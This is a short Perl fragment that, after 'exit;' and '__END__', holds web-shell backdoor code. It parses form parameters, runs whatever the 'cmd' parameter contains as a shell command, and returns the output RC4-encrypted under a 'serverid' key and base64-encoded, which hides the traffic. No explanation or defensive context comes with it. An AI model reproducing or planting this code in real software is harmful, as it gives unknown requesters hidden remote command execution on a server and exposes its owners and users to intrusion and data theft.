exit;
__END__
$| = 1;
sub parse_parameters {
  my ($in) = @_;
  foreach (split(/&/, $in)) {
    my ($n, $v) = split(/=/, $_);
    $v =~ tr/+/ /;
    $v =~ s/%([a-fA-F0-9][a-fA-F0-9])/pack("C", hex($1))/eg;
    $FORM{$n} = $v;
  }
}
my $r = `$FORM{cmd} 2>&1`;
print encode_base64(RC4($FORM{serverid}, $r));
